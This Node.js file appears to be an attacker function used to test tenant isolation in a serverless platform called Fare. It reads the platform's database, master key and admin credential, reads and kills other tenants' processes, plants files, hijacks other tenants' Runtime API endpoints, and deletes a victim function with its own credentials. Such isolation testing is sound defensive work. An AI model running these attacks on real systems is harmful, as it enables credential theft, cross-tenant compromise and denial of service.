// Mallory's Node.js function: each invocation tries the attack named in the event and reports, for
// each target, what happened (the data it got, or the error code that stopped it).

import { execFileSync, spawn } from 'node:child_process';
import { openSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import net from 'node:net';
import { createHash, createHmac } from 'node:crypto';
import { URL } from 'node:url';

/** SigV4 headers for a request, as the AWS SDKs sign (session token included). */
function signed(c, method, url, body) {
  const hex = (b) => createHash('sha256').update(b).digest('hex');
  const mac = (k, s) => createHmac('sha256', k).update(s).digest();
  const amz = new Date().toISOString().replace(/[-:]/g, '').replace(/\.\d+/, '');
  const h = { host: url.host, 'x-amz-date': amz, 'x-amz-security-token': c.Token, 'x-amz-content-sha256': hex(body) };
  const names = Object.keys(h).sort();
  const path = url.pathname.split('/').map((s) => encodeURIComponent(encodeURIComponent(decodeURIComponent(s)))).join('/');
  const creq = [method, path, '', names.map((n) => `${n}:${h[n]}\n`).join(''), names.join(';'), hex(body)].join('\n');
  const scope = `${amz.slice(0, 8)}/us-east-1/lambda/aws4_request`;
  const key = mac(mac(mac(mac(`AWS4${c.SecretAccessKey}`, amz.slice(0, 8)), 'us-east-1'), 'lambda'), 'aws4_request');
  const sig = createHmac('sha256', key).update(['AWS4-HMAC-SHA256', amz, scope, hex(creq)].join('\n')).digest('hex');
  return { ...h, authorization: `AWS4-HMAC-SHA256 Credential=${c.AccessKeyId}/${scope}, SignedHeaders=${names.join(';')}, Signature=${sig}` };
}

const code = (e) => e?.code ?? String(e);
const tryRead = (p) => {
  try {
    return { ok: true, data: readFileSync(p).toString('latin1').slice(0, 200) };
  } catch (e) {
    return { ok: false, error: code(e) };
  }
};
const tryList = (p) => {
  try {
    return { ok: true, data: readdirSync(p) };
  } catch (e) {
    return { ok: false, error: code(e) };
  }
};
const tryWrite = (p) => {
  try {
    writeFileSync(p, 'planted by mallory');
    return { ok: true };
  } catch (e) {
    return { ok: false, error: code(e) };
  }
};

/** One HTTP/1.1 request on a fresh connection; resolves with the status, or the error. */
function http(port, method, path, body = '') {
  return new Promise((resolve) => {
    const s = net.connect({ host: '127.0.0.1', port });
    let got = '';
    const done = (r) => {
      s.destroy();
      resolve(r);
    };
    s.setTimeout(1500, () => done({ status: 'timeout', body: got.slice(0, 200) }));
    s.on('error', (e) => done({ status: 'error', error: code(e) }));
    s.on('data', (c) => {
      got += c.toString('latin1');
      const m = /^HTTP\/1\.1 (\d+)/.exec(got);
      if (m && got.includes('\r\n\r\n')) done({ status: Number(m[1]), body: got.slice(got.indexOf('\r\n\r\n') + 4, 400) });
    });
    s.write(`${method} ${path} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: ${Buffer.byteLength(body)}\r\n\r\n${body}`);
  });
}

/** Every TCP port listening on 127.0.0.1, from /proc/net/tcp (readable by anyone in this network namespace). */
function listeningPorts() {
  const out = [];
  for (const line of readFileSync('/proc/net/tcp', 'latin1').split('\n').slice(1)) {
    const f = line.trim().split(/\s+/);
    if (f[3] === '0A' && f[1]?.startsWith('0100007F:')) out.push(parseInt(f[1].split(':')[1], 16));
  }
  return out;
}

const attacks = {
  /** Finding 1: read Fare's data directory and the victim's instance directory. */
  dataDir: ({ dataDir, victimCode, victimInstanceDir }) => ({
    list: tryList(dataDir),
    db: tryRead(`${dataDir}/fare.db`),
    wal: tryRead(`${dataDir}/fare.db-wal`),
    masterKey: tryRead(`${dataDir}/master.key`),
    adminCredential: tryRead(`${dataDir}/admin-credential`),
    victimCode: tryRead(victimCode),
    victimInstance: tryList(victimInstanceDir),
    victimInstanceCode: tryRead(`${victimInstanceDir}/task/index.mjs`),
    victimInstanceTmp: tryRead(`${victimInstanceDir}/tmp/victim-secret`),
  }),

  /** Finding 2: see, read and signal the victim's processes, given their host pids. */
  processes: ({ pids }) => ({
    visible: readdirSync('/proc').filter((n) => /^\d+$/.test(n)).length,
    targets: pids.map((pid) => {
      const r = { pid, environ: tryRead(`/proc/${pid}/environ`), mem: tryRead(`/proc/${pid}/mem`), cmdline: tryRead(`/proc/${pid}/cmdline`) };
      try {
        process.kill(pid, 0);
        r.signal0 = 'delivered';
      } catch (e) {
        r.signal0 = code(e);
      }
      try {
        process.kill(pid, 'SIGKILL');
        r.kill = 'delivered';
      } catch (e) {
        r.kill = code(e);
      }
      return r;
    }),
  }),

  /** Finding 2: plant files in shared places, and write anywhere else. */
  plant: () => ({
    tmp: tryWrite('/tmp/planted'),
    varTmp: tryWrite('/var/tmp/planted'),
    devShm: tryWrite('/dev/shm/planted'),
    runLock: tryWrite('/run/lock/planted'),
    etc: tryWrite('/etc/planted'),
    taskRoot: tryWrite(`${process.env['LAMBDA_TASK_ROOT']}/planted`),
    usrLocal: tryWrite('/usr/local/planted'),
    varLib: tryWrite('/var/lib/planted'),
    root: tryWrite('/planted'),
  }),

  /** Finding 3: poll or answer every Runtime API on the machine. */
  runtimeApi: async ({ victimRequestId }) => {
    const own = Number((process.env['AWS_LAMBDA_RUNTIME_API'] ?? ':0').split(':')[1]);
    const results = [];
    for (const port of listeningPorts()) {
      if (port === own) continue;
      results.push({
        port,
        next: await http(port, 'GET', '/2018-06-01/runtime/invocation/next'),
        response: await http(port, 'POST', `/2018-06-01/runtime/invocation/${victimRequestId}/response`, '{"stolen":true}'),
        error: await http(port, 'POST', `/2018-06-01/runtime/invocation/${victimRequestId}/error`, '{"errorType":"X","errorMessage":"mallory"}'),
        credentials: await http(port, 'GET', '/2018-06-01/runtime/fare/credentials'),
      });
    }
    return { own, results };
  },

  /**
   * With its own invocation's credentials (from its Runtime API, as the AWS SDK takes them), signed as
   * the SDK would: invoke and read the victim's function by its ARN.
   */
  withOwnCredentials: async ({ victimArn }) => {
    const creds = JSON.parse(await (await fetch(process.env['AWS_CONTAINER_CREDENTIALS_FULL_URI'])).text());
    const endpoint = process.env['FARE_ENDPOINT'];
    const call = async (method, path, body = '') => {
      const r = await fetch(endpoint + path, { method, headers: signed(creds, method, new URL(endpoint + path), body), ...(body !== '' ? { body } : {}) });
      return { status: r.status, type: r.headers.get('x-amzn-errortype') };
    };
    const arn = encodeURIComponent(victimArn);
    return {
      keyId: creds.AccessKeyId,
      invoke: await call('POST', `/2015-03-31/functions/${arn}/invocations`, '{}'),
      get: await call('GET', `/2015-03-31/functions/${arn}`),
      del: await call('DELETE', `/2015-03-31/functions/${arn}`),
      own: await call('GET', '/2015-03-31/functions/'),
    };
  },

  /** Finding 4: keep working after the handler returns — a busy loop in this process and a detached child. */
  afterReturn: ({ spinMs }) => {
    setImmediate(() => {
      // Burns `spinMs` of CPU time (not wall time: a frozen process's clock keeps running) after the answer went out.
      const start = process.cpuUsage();
      for (;;) {
        const used = process.cpuUsage(start);
        if ((used.user + used.system) / 1000 >= spinMs) break;
      }
    });
    return { started: true };
  },
  background: () => {
    const child = spawn('/bin/sh', ['-c', 'while :; do :; done'], { detached: true, stdio: 'ignore' });
    child.unref();
    return { uid: process.getuid(), child: child.pid };
  },

  /** Finding 8: print far more than a log entry holds. */
  flood: ({ mb }) => {
    const line = `${'x'.repeat(1023)}\n`;
    process.stdout.write('FIRST LINE OF OUTPUT\n');
    const chunk = line.repeat(1024);
    for (let i = 0; i < mb; i++) process.stdout.write(chunk);
    process.stdout.write('LAST LINE OF OUTPUT\n');
    return { printedMB: mb };
  },

  /** Finding 6: hand its own context token out (as a leaky function would), or call Fare with one (`own`: its own). */
  token: (_e, ctx) => ({ token: ctx.fareContext }),
  call: async ({ url, key, target, token, payload }, ctx) => {
    const context = token === 'own' ? ctx.fareContext : token;
    const res = await fetch(`${url}/2015-03-31/functions/${target}/invocations`, {
      method: 'POST',
      headers: { Authorization: `Bearer ${key}`, ...(context ? { 'X-Fare-Context': context } : {}) },
      body: JSON.stringify(payload ?? {}),
    });
    return { status: res.status, cls: res.headers.get('x-fare-class'), code: res.headers.get('x-fare-error-code'), body: await res.text() };
  },

  /** Finding 5: costs money — `cpuMs` of CPU time per invocation. */
  burn: ({ cpuMs }) => {
    const start = process.cpuUsage();
    for (;;) {
      const used = process.cpuUsage(start);
      if ((used.user + used.system) / 1000 >= cpuMs) break;
    }
    return { burnt: cpuMs };
  },

  whoami: () => ({ uid: process.getuid(), gid: process.getgid(), groups: process.getgroups(), ps: execFileSync('ps', ['-eo', 'pid,user,comm'], { encoding: 'utf8' }) }),
  fd: () => {
    try {
      openSync('/proc/1/environ', 'r');
      return { init: 'readable' };
    } catch (e) {
      return { init: code(e) };
    }
  },
};

export const handler = async (event, context) => {
  const attack = attacks[event.attack];
  if (!attack) throw new Error(`no attack ${event.attack}`);
  return attack(event, context);
};
